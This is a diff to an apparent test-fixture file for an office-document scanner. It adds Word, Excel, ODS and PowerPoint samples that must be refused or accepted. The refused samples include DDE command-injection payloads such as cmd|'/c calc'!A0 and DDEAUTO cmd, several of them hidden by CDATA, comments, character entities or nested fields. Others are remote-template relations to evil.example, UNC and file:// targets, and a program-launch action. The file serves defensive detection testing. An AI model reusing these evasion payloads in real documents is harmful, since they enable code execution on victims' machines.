@@ -176,6 +176,25 @@ function noise(length: number): Buffer {
   );
 }
 
+/** A .rels part with one relation, written like this. */
+const relation = (written: string): string =>
+  `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}" xmlns:z="urn:z"><Relationship ${written}/></Relationships>`;
+const nestedField = (...inside: readonly string[]): string =>
+  `<w:p>${sign('begin')}${inside.join('')}${sign('end')}</w:p>`;
+const odsFormula = (formula: string): Buffer =>
+  openDocument('spreadsheet', `<table:table-cell table:formula="${formula}"/>`);
+
+/** A workbook with so many numbers and then this formula. */
+export function manyCells(cells: number, formula: string): Buffer {
+  const rows = Array.from(
+    { length: cells },
+    (_, at) => `<c r="A${at}"><v>${(at * 7919) % 9973}</v></c>`,
+  );
+  return workbook({
+    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SHEET}"><sheetData>${rows.join('')}<c><f>${formula}</f></c></sheetData></worksheet>`,
+  });
+}
+
 /** Each refused file: what it is, its name, its bytes, and why it is refused. */
 export const ACTING: readonly (readonly [string, string, Buffer, Reason])[] = [
   // Excel 4 macros
@@ -301,6 +320,137 @@ export const ACTING: readonly (readonly [string, string, Buffer, Reason])[] = [
     openDocument('text', '<text:dde-connection-decl office:dde-application="cmd"/>'),
     'dde',
   ],
+  // The same, written in other ways that are as good XML
+  ...[
+    '<w:instrText><![CDATA[DDEAUTO cmd x]]></w:instrText>',
+    '<w:instrText>DD<![CDATA[EAUTO]]> cmd x</w:instrText>',
+    '<w:instrText>DD<!-- x -->EAUTO cmd x</w:instrText>',
+    '<w:instrText><!-- > --><?x >?>DDEAUTO cmd x</w:instrText>',
+    '<w:instrText w:rsid="a>b">DDEAUTO cmd x</w:instrText>',
+    '<w:fldSimple w:rsid="a>b" w:instr="DDEAUTO cmd x"/>',
+    '<w:fldSimple xmlns:z="urn:z" w:instr="DDEAUTO cmd x" z:instr="PAGE"/>',
+    '<w:instrText>DD</w:instrText><z:instrText xmlns:z="urn:z">x</z:instrText><w:instrText>E a</w:instrText>',
+    '<w:instrText>DD</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>E a</w:instrText>',
+    '<w:instrText>&#x00000044;DE a b</w:instrText>',
+  ].map(
+    (inside) =>
+      [
+        `a DDE field as ${inside}`,
+        'a.docx',
+        docx(`<w:p>${sign('begin')}${run(inside)}${sign('end')}</w:p>`),
+        'dde',
+      ] as const,
+  ),
+  ...[
+    [field('QUOTE 68 68 69 65 85 84 79'), instruction(' cmd x')],
+    [instruction('DD'), field('QUOTE 0x45'), instruction(' cmd x')],
+    [field('REF C'), instruction(' cmd x')],
+    [nestedField(field('QUOTE 68 68 69 32 99'))],
+  ].map(
+    (inside, index) =>
+      [
+        `a DDE field made by fields, ${index + 1}`,
+        'a.docx',
+        docx(`${field('SET C "DDEAUTO"')}${nestedField(...inside)}`),
+        'dde',
+      ] as const,
+  ),
+  [
+    'a picture by codes',
+    'a.docx',
+    docx(
+      nestedField(
+        instruction('INCLUDEPICTURE '),
+        field('QUOTE 104 116 116 112 58 47 47 120 46 101 120'),
+      ),
+    ),
+    'remote-content',
+  ],
+  ...[
+    "cmd&#124;'/c calc'!A0",
+    'cmd|&#x27;/c calc&#x27;!A0',
+    "<![CDATA[cmd|'/c calc'!A0]]>",
+    "cmd<!-- -->|'/c calc'!A0",
+    "SUM(cmd|'/c calc'!A0)",
+    'cmd|topic!item',
+    "&quot;it's&quot;&amp;cmd|'/c calc'!A0",
+    "'cmd'|'/c calc'!A0",
+    '1+DDE("a";"b";"c")',
+    'SUM(dde ("a";"b";"c"))',
+  ].map(
+    (formula) => [`the DDE formula ${formula}`, 'a.xlsx', workbook(cell(formula)), 'dde'] as const,
+  ),
+  [
+    'a DDE formula after an attribute',
+    'a.xlsx',
+    workbook({
+      'xl/worksheets/sheet1.xml': `<worksheet xmlns="${SHEET}"><f ref="a>b">cmd|'/c calc'!A0</f></worksheet>`,
+    }),
+    'dde',
+  ],
+  [
+    'a DDE formula in a name',
+    'a.xlsx',
+    workbook({
+      'xl/workbook.xml': `<workbook xmlns="${SHEET}"><definedNames><definedName name="a">cmd|'/c calc'!A0</definedName></definedNames></workbook>`,
+    }),
+    'dde',
+  ],
+  ...[
+    'of:=&#68;DE(&quot;a&quot;)',
+    'of:=DDE (&quot;a&quot;)',
+    "of:=LEN(&quot;'&quot;)+DDE(&quot;a&quot;)",
+    `of:=${'1+'.repeat(150)}DDE(&quot;a&quot;)`,
+    "msoxl:=cmd|'/c calc'!A0",
+  ].map(
+    (formula) =>
+      [`the ODS formula ${formula.slice(-40)}`, 'a.ods', odsFormula(formula), 'dde'] as const,
+  ),
+  ...(
+    [
+      ['attachedTemplate', 'Id="a>b" ', ' TargetMode="External"', 'remote-template'],
+      [
+        'attachedTemplate',
+        '',
+        ' TargetMode="External" z:TargetMode="Internal" z:Type="hyperlink" z:Target="a"',
+        'remote-template',
+      ],
+      ['attached&#84;emplate', '', ' TargetMode="&#69;xternal"', 'remote-template'],
+      ['oleObject', "Id='a>b' ", '', 'embedded-object'],
+      ['xlMacrosheet', 'Id="&gt;>" ', '', 'macro-sheets'],
+    ] as const
+  ).map(
+    ([type, before, after, reason]) =>
+      [
+        `the relation ${type} ${before}${after}`,
+        'a.docx',
+        docx('', {
+          'word/_rels/settings.xml.rels': relation(
+            `${before}Type="${RELATIONS}/${type}" Target="https://evil.example/a"${after}`,
+          ),
+        }),
+        reason,
+      ] as const,
+  ),
+  [
+    'a macro sheet by its type in references',
+    'a.xlsx',
+    office(
+      'xlsx',
+      {},
+      '<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.macro&#115;heet+xml"/>',
+    ),
+    'macro-sheets',
+  ],
+  [
+    'a button for a program in references',
+    'a.pptx',
+    office('pptx', {
+      'ppt/slides/slide1.xml':
+        '<p:sld><a:hlinkClick x="a>b" action="ppaction&#58;//program"/></p:sld>',
+    }),
+    'launch',
+  ],
   // Objects
   [
     'an OLE object',
@@ -417,6 +567,13 @@ export const ACTING: readonly (readonly [string, string, Buffer, Reason])[] = [
     ' https://evil.example/a.dotm',
     'ftp://evil.example/a.dotm',
     'mhtml:https://evil.example/a!b',
+    '\\\\?\\server\\share\\a.dotm',
+    '\\??\\UNC\\server\\share\\a.dotm',
+    '\\\\?\\GLOBALROOT\\Device\\Mup\\server\\a.dotm',
+    'file://127.0.0.1/share/a.dotm',
+    'file://c|@server/share/a.dotm',
+    'file:///??/UNC/server/a.dotm',
+    'h\u00ADttps://evil.example/a.dotm',
   ].map(
     (target) =>
       [`the template ${target}`, 'a.docx', withTemplate(target), 'remote-template'] as const,
@@ -917,6 +1074,29 @@ export const HONEST: readonly (readonly [string, string, Buffer])[] = [
       ...cell('IF(A1="a|b",SUM(B1:B9),HYPERLINK("https://example.org","x"))'),
       'xl/printerSettings/printerSettings1.bin': noise(2_000),
     }),
+  ],
+  [
+    'formulas with bars in texts and names',
+    'a.xlsx',
+    workbook(
+      cell(
+        "IF(A1=&quot;a|'b&quot;,'Sian|Llŷr''s'!B2,Table1[[#This Row],[Band|Grade]])&amp;&quot;DDE(&quot;",
+      ),
+    ),
+  ],
+  [
+    'a fraction',
+    'a.docx',
+    docx(
+      '<m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:f><m:num><m:r><m:t>|x|</m:t></m:r></m:num></m:f></m:oMath>',
+    ),
+  ],
+  [
+    'fields in fields, and a link to a range of this computer',
+    'a.docx',
+    docx(
+      `${nestedField(instruction(' IF '), field('MERGEFIELD Band'), instruction(' = "5" "DDE" "no" '))}${field(' LINK Excel.Sheet.12 "C:\\\\Trust\\\\Rota.xlsx" "Rota!R1C1:R2C2" \\a ')}${nestedField(instruction(' TOC \\o '), sign('separate'), field('PAGEREF _Toc1'))}`,
+    ),
   ],
   [
     'a workbook of Google',
